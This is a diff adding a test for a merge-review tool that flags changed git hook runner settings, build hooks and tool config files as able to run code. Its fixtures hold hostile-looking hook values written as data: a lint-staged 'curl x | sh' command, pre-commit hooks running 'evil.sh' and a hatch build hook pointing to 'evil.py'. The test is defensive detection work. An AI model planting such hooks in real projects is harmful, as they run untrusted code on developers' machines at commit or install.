@@ -127,7 +127,37 @@ test("the merge review uses the run's own tool-config list, case variants and HF
   ].sort());
   const why = (p: string) => findings.filter((f) => f.path === p).map((f) => f.why);
   assert.deepEqual(why('.cursor/rules/x.mdc'), ['a config your tools run or obey in its folder (.cursor), which a run keeps from the agent; changed']);
-  assert.deepEqual(why('pyproject.toml'), ['Python build system (an in-tree backend runs on install); changed']);
+  assert.deepEqual(why('pyproject.toml'), ['Python build system (an in-tree backend or build hook runs on install); changed']);
   assert.deepEqual(why('tsconfig.json'), ['TypeScript plugins your editor loads; added']);
   assert.deepEqual(why('MAKEFILE'), ['build file; changed']);
+});
+
+test('(review, round 26) the merge review names git commit hook runners and more files tools load as code: in package.json (lint-staged, husky, simple-git-hooks, pre-commit, yorkie, ghooks), their config files, Python build hooks, Gemfile, MSBuild imports, .pdbrc; control: a package.json change elsewhere is not named', () => {
+  const [P0, P1, P2, P3, Y0, Y1] = ['1', '2', '3', '4', '5', '6'].map((c) => c.repeat(40)) as [string, string, string, string, string, string];
+  const blobs: Record<string, string> = {
+    [P0]: '{"name":"x","version":"1.0.0"}',
+    [P1]: '{"name":"x","version":"1.0.0","lint-staged":{"*":"sh -c \'curl x | sh\'"}}',
+    [P2]: '{"name":"x","version":"1.0.1","config":{"ghooks":{"pre-commit":"sh evil.sh"}},"simple-git-hooks":{"pre-commit":"sh evil.sh"}}',
+    [P3]: '{"name":"x","version":"1.0.2"}',
+    [Y0]: '[project]\nname = "x"\n',
+    [Y1]: '[project]\nname = "x"\n[tool.hatch.build.hooks.custom]\npath = "docs/evil.py"\n',
+  };
+  const read = (oid: string) => blobs[oid] ?? null;
+  const paths = ['.lintstagedrc.json', 'lint-staged.config.js', 'commitlint.config.js', '.huskyrc', 'hatch_build.py', 'Gemfile', 'Directory.Build.props', '.mocharc.js', '.pdbrc', 'docs/readme.txt'];
+  const findings = review([
+    ...paths.map((p) => ch(p)),
+    ch('package.json', { oldOid: P0, newOid: P1 }),
+    ch('web/package.json', { oldOid: P0, newOid: P2 }),
+    ch('api/package.json', { oldOid: P0, newOid: P3 }),
+    ch('pyproject.toml', { oldOid: Y0, newOid: Y1 }),
+  ], read);
+  const why = (p: string) => findings.filter((f) => f.path === p).map((f) => f.why);
+  assert.deepEqual(why('package.json'), ['git hook runner settings changed: lint-staged (run on your next git commit or push)']);
+  assert.deepEqual(why('web/package.json'), ['git hook runner settings changed: config.ghooks, simple-git-hooks (run on your next git commit or push)']);
+  assert.deepEqual(why('api/package.json'), [], 'control: a version bump runs nothing');
+  assert.deepEqual(why('pyproject.toml'), ['Python build system (an in-tree backend or build hook runs on install); changed']);
+  assert.deepEqual(why('.lintstagedrc.json'), ['git commit hook runner configuration (runs on your next git commit); changed']);
+  assert.deepEqual(why('.pdbrc'), ['runs as code when your tools load it (install, build, test or debugger); changed']);
+  assert.deepEqual(why('docs/readme.txt'), [], 'control');
+  assert.deepEqual([...new Set(findings.map((f) => f.path))].sort(), ['.huskyrc', '.lintstagedrc.json', '.mocharc.js', '.pdbrc', 'Directory.Build.props', 'Gemfile', 'commitlint.config.js', 'hatch_build.py', 'lint-staged.config.js', 'package.json', 'pyproject.toml', 'web/package.json'].sort());
 });
